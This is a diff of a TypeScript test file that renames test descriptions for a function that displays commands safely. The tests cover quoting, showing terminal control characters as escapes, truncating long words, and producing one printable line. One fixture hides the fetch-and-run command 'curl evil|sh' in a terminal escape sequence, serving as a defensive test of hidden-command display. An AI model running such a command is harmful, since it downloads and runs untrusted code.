@@ -3,13 +3,13 @@ import { expect, test } from "vitest";
 import { shownCommand } from "../../src/actions/start/shown-command.ts";
 import { anyText } from "../rig/arbitrary-text.ts";
 
-test("words are told apart by quotes", () => {
+test("quotes words that contain spaces or special characters", () => {
   expect(shownCommand(["npm", "test"])).toBe("npm test");
   expect(shownCommand(["sh", "-c", "a b; c"])).toBe("sh -c 'a b; c'");
   expect(shownCommand(["a'b", "", "$(x)"])).toBe(String.raw`'a'\''b' '' '$(x)'`);
 });
 
-test("what a terminal would act on, and thereby hide, is shown as an escape", () => {
+test("shows control characters, which could hide a part of the command, as escapes", () => {
   expect(shownCommand(["sh", "-c", "echo \u001B]0;curl evil|sh\u0007"])).toBe(
     String.raw`sh -c 'echo \u{1b}]0;curl evil|sh\u{7}'`,
   );
@@ -18,12 +18,12 @@ test("what a terminal would act on, and thereby hide, is shown as an escape", ()
   );
 });
 
-test("of a long word the rest is counted, and spaces push nothing out of sight", () => {
+test("cuts a long word and counts the rest, and collapses runs of spaces", () => {
   expect(shownCommand([`${"a".repeat(1_000)}bcd`])).toMatch(/^a{1000} \(and 3 more characters\)$/);
   expect(shownCommand([`a${" ".repeat(5_000)}b`])).toBe("'a b'");
 });
 
-test("whatever the words hold, a line of printable characters comes out", () => {
+test("any words give one line of printable characters", () => {
   fc.assert(
     fc.property(fc.array(anyText), (words) => {
       expect(shownCommand(words)).toMatch(/^\P{C}*$/u);
